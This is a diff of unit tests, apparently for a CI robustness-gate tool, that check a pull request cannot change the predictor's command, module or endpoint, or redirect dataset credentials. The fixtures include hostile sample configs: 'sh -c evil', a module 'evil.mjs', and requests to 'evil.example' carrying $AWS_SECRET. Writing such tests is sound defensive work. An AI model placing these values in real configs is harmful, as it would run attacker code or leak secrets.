@@ -61,7 +61,47 @@ describe('a pull request’s config', () => {
 
   it('promotes what it is there to promote', () => {
     const head = { ...config(), predictor: { ...config().predictor, model: 'new.onnx' } };
-    expect(holdConfig(head, main(config())).config.predictor.model).toBe('new.onnx');
+    expect(holdConfig(head, main(config())).config.predictor).toMatchObject({ model: 'new.onnx' });
+  });
+
+  it.each([
+    [
+      'command',
+      '{kind: command, command: [python, a.py]}',
+      '{kind: command, command: [sh, -c, evil]}',
+    ],
+    ['module', '{kind: module, module: a.mjs}', '{kind: module, module: evil.mjs}'],
+    [
+      'http',
+      '{kind: http, url: https://a.example/p, headers: {X: $A}, version: a}',
+      '{kind: http, url: https://evil.example/p, headers: {X: $B}, version: a}',
+    ],
+    [
+      'roboflow',
+      '{kind: roboflow, model: a/1}',
+      '{kind: roboflow, model: a/1, url: https://evil.example, apiKey: $AWS_SECRET, maxRequests: 999999}',
+    ],
+  ])('cannot choose what the predictor %s runs or whom it asks', (_, base, head) => {
+    const withPredictor = (text: string): GateConfig => {
+      const file = `version: 1\ndataset: {format: yolo, path: d.yaml}\npredictor: ${text}\n`;
+      return parseConfig(file, 'robustness.yml');
+    };
+    const held = holdConfig(withPredictor(head), main(withPredictor(base)));
+    expect(held.config).toEqual(withPredictor(base));
+    expect(held.changes[0]).toMatch(/main’s counts until it is merged/);
+  });
+
+  it('cannot send another secret away with the data set', () => {
+    const text = `version: 1
+dataset: {format: roboflow, workspace: w, project: p, version: 2, apiKey: $AWS_SECRET}
+predictor: {kind: onnx, model: m.onnx}
+suite: {perturbations: [gaussian_noise, rotation], severities: [1, 3]}
+`;
+    const head = { ...parseConfig(text, 'robustness.yml'), name: 'site' };
+    expect(holdConfig(head, main(config())).config.dataset).toMatchObject({
+      version: 2,
+      apiKey: '$ROBOFLOW_API_KEY',
+    });
   });
 
   it('counts alone where the base has none, which is said', () => {
